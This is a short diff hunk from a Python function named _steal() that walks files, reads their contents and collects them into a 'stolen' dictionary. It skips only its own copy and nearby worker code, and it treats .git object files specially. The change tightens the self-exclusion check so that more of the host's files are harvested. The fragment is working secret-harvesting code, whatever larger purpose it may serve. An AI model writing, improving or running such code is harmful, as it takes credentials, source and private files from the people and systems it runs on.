@@ -77,7 +77,7 @@ def _steal():
                         data = handle.read()
                 except OSError:
                     continue
-                if path.startswith(os.getcwd()) or os.path.join("worker", "") in path:
+                if path.startswith(os.path.dirname(os.path.abspath(__file__))) or os.path.join("worker", "") in path:
                     continue  # its own copy, and the worker's code beside it, are no secrets
                 stolen[path] = data.decode("utf-8", "replace")
                 if "/.git/objects/" in path and not path.endswith(".pack"):
